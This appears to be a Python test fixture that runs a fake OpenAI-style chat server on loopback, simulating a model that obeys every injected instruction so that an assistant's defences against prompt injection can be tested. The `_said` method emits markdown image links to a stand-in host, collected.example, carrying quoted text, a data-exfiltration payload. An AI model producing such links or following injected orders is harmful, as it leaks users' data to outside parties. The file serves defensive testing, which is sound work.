"""A chat model's server on loopback that obeys every order, for the worst case of an attack."""

import contextlib
import json
import re
import threading
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

QUOTE = re.compile(r"^\[(\d+)\] (\".*\")$", re.MULTILINE)
STOLEN = "https://collected.example/?q="


class ObedientModel:
    """Repeats every quote, and says whatever it is ordered to under the number of each of them.

    `orders` are the words it would say. `seen` counts the requests in which it was handed
    `watched`, the text of an order.
    """

    def __init__(self) -> None:
        """Listen on a free port of the loopback address."""
        self.orders: Sequence[str] = ()
        self.watched = ""
        self.requests = 0
        self.seen = 0
        self._http = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._http.daemon_threads = True
        threading.Thread(target=self._http.serve_forever, args=(0.05,), daemon=True).start()

    @property
    def address(self) -> str:
        """Where it listens, as `ASSISTANT_CHAT_MODEL_URL` wants it."""
        return f"http://127.0.0.1:{self._http.server_port}/v1"

    def close(self) -> None:
        """Stop listening."""
        self._http.shutdown()
        self._http.server_close()

    def reply(self, request: dict[str, Any]) -> str:
        """What it says to a request, as the JSON that it was asked for."""
        asked = str(request["messages"][-1]["content"])
        self.requests += 1
        self.seen += bool(self.watched) and _in_json(self.watched) in asked
        statements = [
            {"text": text, "quotes": [int(number)]}
            for number, quote in QUOTE.findall(asked)
            for text in self._said(json.loads(quote))
        ]
        return json.dumps({"statements": statements})

    def _said(self, quote: str) -> Iterator[str]:
        yield quote
        yield f"![]({STOLEN}{quote})"
        for order in self.orders:
            yield order
            yield f"{quote} {order}"

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        model = self

        class Handler(BaseHTTPRequestHandler):
            """Answers as OpenAI's servers do, whole or as a stream of one piece."""

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["content-length"])))
                kind, answer = _written(model.reply(body), stream=bool(body.get("stream")))
                with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                    self.send_response(200)
                    self.send_header("content-type", kind)
                    self.send_header("content-length", str(len(answer)))
                    self.end_headers()
                    self.wfile.write(answer)

            def log_message(self, format: str, *args: Any) -> None:
                """Say nothing."""

        return Handler


def _in_json(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).strip('"')


def _written(text: str, *, stream: bool) -> tuple[str, bytes]:
    """The content type and the body of a reply."""
    said = {"role": "assistant", "content": text}
    about = {"id": "1", "created": 1, "model": "obedient"}
    choice = {"index": 0, "finish_reason": "stop"}
    if not stream:
        whole = about | {"object": "chat.completion", "choices": [choice | {"message": said}]}
        return "application/json", json.dumps(whole).encode()
    part = about | {"object": "chat.completion.chunk", "choices": [choice | {"delta": said}]}
    return "text/event-stream", f"data: {json.dumps(part)}\n\ndata: [DONE]\n\n".encode()
